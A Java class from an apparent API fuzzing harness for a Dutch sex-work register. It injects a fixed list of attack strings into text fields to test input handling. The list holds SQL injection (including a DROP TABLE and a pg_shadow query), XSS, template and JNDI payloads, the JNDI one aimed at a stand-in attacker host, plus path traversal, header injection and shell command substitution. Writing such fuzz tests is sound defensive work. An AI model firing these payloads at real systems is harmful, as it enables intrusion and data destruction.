package nl.sekswerkregister.fuzz.mutaties;

import com.fasterxml.jackson.databind.node.TextNode;
import java.util.List;
import nl.sekswerkregister.fuzz.Plek;
import nl.sekswerkregister.fuzz.Trekker;
import nl.sekswerkregister.fuzz.Verzoek;

/**
 * Injection fragments (SQL, script, templates, JNDI, format strings, path traversal, header
 * injection) where text goes, so that they travel as far as they can: down to the database. Each
 * holds a piece that Keuring looks for in errors (an error never repeats input).
 */
public final class Injectie implements LichaamMutatie {

    public static final List<String> TEKSTEN = List.of("' or 1=1 --", "'; DROP TABLE exploitant; --",
            "\" OR \"\"=\" 1=1", "1' UNION SELECT usename FROM pg_shadow --", "%' AND 1=(SELECT pg_sleep(0)) --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://aanvaller.example/a}",
            "%s%s%s%n zqxj", "../../../../etc/passwd zqxj", "..\\..\\windows\\win.ini zqxj", "a\r\nX-Ingevoegd: zqxj",
            "$(touch /tmp/zqxj)", "`id` zqxj");

    @Override
    public void pasToe(Verzoek v, Trekker t) {
        Plek plek = t.kies(Plek.vanType(v, "string"));
        String tekst = t.trek(TEKSTEN);
        plek.zet(TextNode.valueOf(tekst));
        v.lichaamGemuteerd("injectie " + plek.naam + "=" + TextNode.valueOf(tekst));
    }
}
